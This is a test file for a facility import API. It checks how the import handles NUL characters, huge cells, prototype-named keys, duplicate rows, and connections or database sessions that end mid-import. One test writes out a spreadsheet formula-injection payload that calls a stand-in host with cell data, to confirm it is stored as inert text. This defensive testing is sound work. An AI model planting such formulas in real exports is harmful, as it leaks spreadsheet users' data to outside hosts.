// What an import meets at its worst: values that no column takes, and a connection or a database that ends in the middle.
// Nothing is written twice, nothing is lost, and every refused row has its reason.
import { randomUUID } from 'node:crypto';
import { connect } from 'node:net';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { ownApi } from '../support/api';
import {
  COLUMNS,
  checkPortion,
  FILE,
  facility,
  outcomes,
  rowsOf,
  untilBlocked,
  writePortion,
} from '../support/import-calls';

const api = ownApi(test, { kind: 'demo' });
let origin: string;
test.before(async () => {
  origin = await api.listen();
});

const headOf = (body: string) =>
  [
    ...[
      'POST /api/client/facility/import HTTP/1.1',
      `host: ${new URL(origin).host}`,
      `authorization: Bearer ${api.token}`,
    ],
    ...['content-type: application/json', `content-length: ${Buffer.byteLength(body)}`, '', ''],
  ].join('\r\n');

const count = async (part: string) =>
  (await api.rows('select 1 from facility where facility_name like $1', [`${part}%`])).length;

test('NUL characters and a megabyte in any cell refuse their row alone', async () => {
  const bad = ['\u0000', 'a\u0000b', 'x'.repeat(1_048_576)];
  const places = ['facility_name', 'facility_mobile', 'capacity', 'latitude', 'status'];
  const lines = places.flatMap((column) => bad.map((text) => facility(`Bad ${column}`, { [column]: text })));
  for (const part of [lines.slice(0, 8), lines.slice(8)]) {
    const portion = {
      columns: COLUMNS,
      rows: rowsOf([facility('Good'), ...part]),
    };
    const checked = await checkPortion(api, '/facility', portion);
    const { rows } = await writePortion(api, '/facility', portion);
    assert.equal(outcomes(rows), outcomes(checked));
    for (const { row, result, errors } of rows.slice(1)) {
      assert.is(result, 'refused', `${row} ${JSON.stringify(part[row - 3]!.map((cell) => cell.slice(0, 5)))}`);
      assert.ok(
        Object.values(errors!).every((text) => text !== '' && text.length < 500),
        JSON.stringify(errors).slice(0, 900),
      );
    }
  }
  assert.is(await count('Good'), 2);
  assert.is(await count('Bad'), 0);
});

test('half a character is no failure, and the rows beside it are written', async () => {
  const lines = [facility('Half 1'), facility('Half \ud800'), facility('Half 3', { zone: '\udc00' })];
  const { rows } = await writePortion(api, '/facility', {
    columns: COLUMNS,
    rows: rowsOf(lines),
    key: 'facility_name',
  });
  assert.is(rows[0]!.result, 'new');
  assert.is(await count('Half'), rows.filter(({ result }) => result === 'new').length);
});

test('what the call says around the rows is refused in words, too', async () => {
  const call = { import: randomUUID(), portion: 0, columns: COLUMNS, rows: rowsOf([facility('Around')]), file: FILE };
  const bad = [
    { file: { ...FILE, name: 'a\u0000b' } },
    { read: { zone: { 'a\u0000': 'b' } } },
    { read: { zone: { x: '\u0000' } }, rows: rowsOf([facility('Around', { zone: 'x' })]) },
    { portion: 2 ** 40 },
    { rows: [{ row: 2 ** 40, cells: facility('Around') }] },
    { rows: [{ row: -1, cells: facility('Around') }] },
    { file: { ...FILE, rows: 2 ** 40 } },
    { type: 2 ** 40 },
    { columns: ['facility_name\u0000'] },
    { key: 'zone\u0000' },
  ];
  for (const more of bad) {
    const { status, text } = await api.call('POST', '/facility/import', {
      body: { ...call, ...more, import: randomUUID() },
    });
    assert.ok(status === 200 || status === 422, `${status} ${text} ${JSON.stringify(more).slice(0, 100)}`);
  }
});

test('two lines with one number are no way to two records with one key', async () => {
  const rows = [5, 5].map((row) => ({ row, cells: facility('Numbered') }));
  const portion = { import: randomUUID(), portion: 0, columns: COLUMNS, key: 'facility_name', rows, file: FILE };
  for (const path of ['import/check', 'import']) {
    const { status, body } = await api.call('POST', `/facility/${path}`, { body: portion });
    assert.equal([status, body.message], [422, 'Row 5 is there twice.']);
  }
  assert.is(await count('Numbered'), 0);
});

test('what prototypes of objects have is no column, no key and no choice', async () => {
  const call = { portion: 0, columns: COLUMNS, rows: rowsOf([facility('Proto')]), file: FILE };
  for (const name of ['__proto__', 'constructor', 'toString'])
    for (const more of [{ columns: [name, ...COLUMNS.slice(1)] }, { key: name }]) {
      const body = { ...call, import: randomUUID(), ...more };
      assert.is((await api.call('POST', '/facility/import', { body })).status, 422, name);
    }
  const rows = rowsOf([facility('Proto', { status: 'constructor' })]);
  assert.equal(outcomes((await writePortion(api, '/facility', { columns: COLUMNS, rows })).rows), ['refused']);
});

test('Undo of one import by several at once takes it back once', async () => {
  const lines = Array.from({ length: 50 }, (_, at) => facility(`Several ${at}`));
  const { import: id } = await writePortion(api, '/facility', { columns: COLUMNS, rows: rowsOf(lines) });
  const undo = (headers?: Record<string, string>) => api.call('POST', `/facility/imports/${id}/undo`, { headers });
  const key = { 'idempotency-key': randomUUID() };
  const all = await Promise.all([undo(key), undo(key), undo(), undo()]);
  assert.equal(new Set(all.map(({ status }) => status)), new Set([200]));
  const counts = all.map(({ body }) => body.data.undone as number);
  assert.is(counts[0], counts[1]);
  assert.is(counts[1]! + counts[2]! + counts[3]!, 50, String(counts));
  assert.is(await count('Several'), 0);
});

test('a formula in every cell is text', async () => {
  const text = ['facility_name', 'facility_address', 'zone', 'block', 'row', 'shelf'];
  const over = Object.fromEntries(text.map((name) => [name, `=HYPERLINK("http://x/?"&A1,"${name}")`]));
  const { rows } = await writePortion(api, '/facility', { columns: COLUMNS, rows: rowsOf([facility('', over)]) });
  assert.equal(outcomes(rows), ['new']);
  const [stored] = await api.rows(`select * from facility where facility_id = ${rows[0]!.id}`);
  for (const name of text) assert.is(stored![name], over[name]);
  const all = COLUMNS.map(() => '=1+1');
  const [refused] = await checkPortion(api, '/facility', { columns: COLUMNS, rows: rowsOf([all]) });
  assert.is(refused!.result, 'refused');
});

test('rows of five hundred columns, of which a few are read', async () => {
  const columns = [...COLUMNS, ...Array.from({ length: 500 - COLUMNS.length }, () => '')];
  const lines = Array.from({ length: 1_000 }, (_, at) => [
    ...facility(`Wide ${at}`),
    ...Array(500 - COLUMNS.length).fill('w'),
  ]);
  const { rows } = await writePortion(api, '/facility', { columns, rows: rowsOf(lines) });
  assert.ok(rows.every(({ result }) => result === 'new'));
  assert.is(await count('Wide'), 1_000);
});

test('a body that is too large is refused whole, with its status', async () => {
  const rows = rowsOf(Array.from({ length: 17 }, () => facility('Large', { zone: 'x'.repeat(1_048_576) })));
  const { status } = await api.call('POST', '/facility/import/check', { body: { columns: COLUMNS, rows } });
  assert.is(status, 413);
});

test('a connection that is cut at half of a portion writes nothing, and the portion is written when it comes whole', async () => {
  const { hostname, port } = new URL(origin);
  const lines = Array.from({ length: 200 }, (_, at) => facility(`Cut ${at}`));
  const call = { import: randomUUID(), portion: 0, file: FILE, columns: COLUMNS, rows: rowsOf(lines) };
  const body = JSON.stringify(call);
  await new Promise<void>((resolve) => {
    const socket = connect(Number(port), hostname, () => {
      socket.write(headOf(body) + body.slice(0, body.length / 2), () => socket.destroy());
    });
    socket.on('close', () => resolve());
  });
  assert.is(await count('Cut'), 0);
  assert.ok((await writePortion(api, '/facility', call)).rows.every(({ result }) => result === 'new'));
  assert.is(await count('Cut'), 200);
});

test('a response that is lost after half of the file is not written twice', async () => {
  const { hostname, port } = new URL(origin);
  const call = { import: randomUUID(), portion: 0, file: FILE, columns: COLUMNS, rows: rowsOf([facility('Lost')]) };
  const body = JSON.stringify(call);
  const client = await api.pool.connect();
  await client.query('begin');
  await client.query('lock table change_log in access exclusive mode');
  const socket = connect(Number(port), hostname, () => socket.write(headOf(body) + body));
  await untilBlocked(api);
  socket.destroy();
  const again = writePortion(api, '/facility', call);
  await untilBlocked(api, 2);
  await client.query('commit');
  client.release();
  assert.equal(outcomes((await again).rows), ['new']);
  assert.is(await count('Lost'), 1);
  assert.is((await api.rows(`select 1 from change_log where label = 'Lost'`)).length, 1);
});

test('a database session that is ended in the middle of a portion leaves nothing, and the next try writes it once', async () => {
  const lines = Array.from({ length: 300 }, (_, at) => facility(`Killed ${at}`));
  const call = {
    import: randomUUID(),
    portion: 0,
    file: FILE,
    columns: COLUMNS,
    rows: rowsOf(lines),
    key: 'facility_name',
  };
  const client = await api.pool.connect();
  await client.query('begin');
  await client.query('lock table change_log in access exclusive mode');
  const first = api.call('POST', '/facility/import', { body: call });
  await untilBlocked(api);
  await api.rows(`select pg_terminate_backend(pid) from pg_stat_activity
    where datname = current_database() and wait_event_type = 'Lock'`);
  const { status } = await first;
  await client.query('commit');
  client.release();
  assert.ok([200, 503].includes(status), String(status));
  const { rows } = await writePortion(api, '/facility', call);
  assert.ok(rows.every(({ result }) => result === 'new'));
  assert.is(await count('Killed'), 300);
  const [listed] = (await api.call('GET', '/facility/imports')).body.data.rows;
  assert.is(listed.created, 300);
});

test.run();
